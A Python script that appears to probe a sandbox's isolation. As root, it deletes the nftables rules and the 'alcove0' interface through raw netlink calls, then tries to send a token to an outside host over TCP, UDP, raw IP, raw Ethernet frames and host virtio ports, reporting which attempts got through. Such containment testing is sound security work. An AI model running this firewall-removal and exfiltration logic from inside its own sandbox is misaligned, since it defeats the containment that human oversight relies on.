"""What root of a sandbox can do to the capture inside it: takes its rules away, then its interface. Prints what became of it, then makes the attempts
to get bytes out that no address is needed for. Arguments: a token, an address of the host, a port."""

import ctypes, errno, json, os, socket, struct, sys

token, address, port = sys.argv[1].encode(), sys.argv[2], int(sys.argv[3])
seen = {}


def netlink(family, *messages):
    link = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, family)
    link.settimeout(5)
    link.send(b"".join(messages))
    for piece in [link.recv(65536)]:
        kind, code = struct.unpack("=4xHxx8xi", piece[:20])
        return os.strerror(-code) if kind == 2 and code else "done"


def message(kind, flags, body):
    return struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body


def tables_gone():
    begin, end = (message(kind, 1, struct.pack(">BBH", 0, 0, 10)) for kind in (16, 17))
    delete = message(10 << 8 | 2, 1 | 4, struct.pack(">BBH", 0, 0, 0))
    return netlink(12, begin, delete, end)


def interface_gone():
    index = socket.if_nametoindex("alcove0")
    return netlink(0, message(17, 1 | 4, struct.pack("=BxHiII", 0, 0, index, 0, 0)))


def send():
    """By every protocol that a program can speak, without patience."""
    codes = []
    for family, where in [(socket.AF_INET, address), (socket.AF_INET, "198.18.0.1"), (socket.AF_INET6, "fd41:6c63:6f76::1")]:
        for kind, protocol in [(socket.SOCK_STREAM, 0), (socket.SOCK_DGRAM, 0), (socket.SOCK_RAW, 1), (socket.SOCK_RAW, 253)]:
            for mark in (0, 1, 0xA1C0):
                with socket.socket(family, kind, protocol) as conn:
                    conn.settimeout(0.3)
                    try:
                        if mark:
                            conn.setsockopt(socket.SOL_SOCKET, 36, mark)
                        conn.connect((where, port if kind != socket.SOCK_RAW else 0))
                        conn.sendall(b"\x08\0\0\0" + token)
                        codes.append("sent")
                    except OSError as error:
                        codes.append(errno.errorcode.get(error.errno, "timeout"))
    return codes


def frames():
    """Past IP, on the interface itself."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as wire:
        wire.bind(("alcove0", 0))
        return wire.send(b"\xff" * 12 + b"\x08\x00" + token * 3)


def channels():
    """The ports that the agent speaks with the host by."""
    found = {}
    for name in sorted(os.listdir("/dev")):
        if name.startswith("vport"):
            try:
                with open(f"/dev/{name}", "r+b", buffering=0) as channel:
                    channel.write(token)
                found[name] = "written"
            except OSError as error:
                found[name] = errno.errorcode.get(error.errno)
    return found


seen["before"] = send()
seen["frame"] = frames()
seen["channels"] = channels()
seen["tables"] = tables_gone()
seen["without tables"] = send()
seen["interface"] = interface_gone()
seen["without interface"] = send()
print(json.dumps(seen))
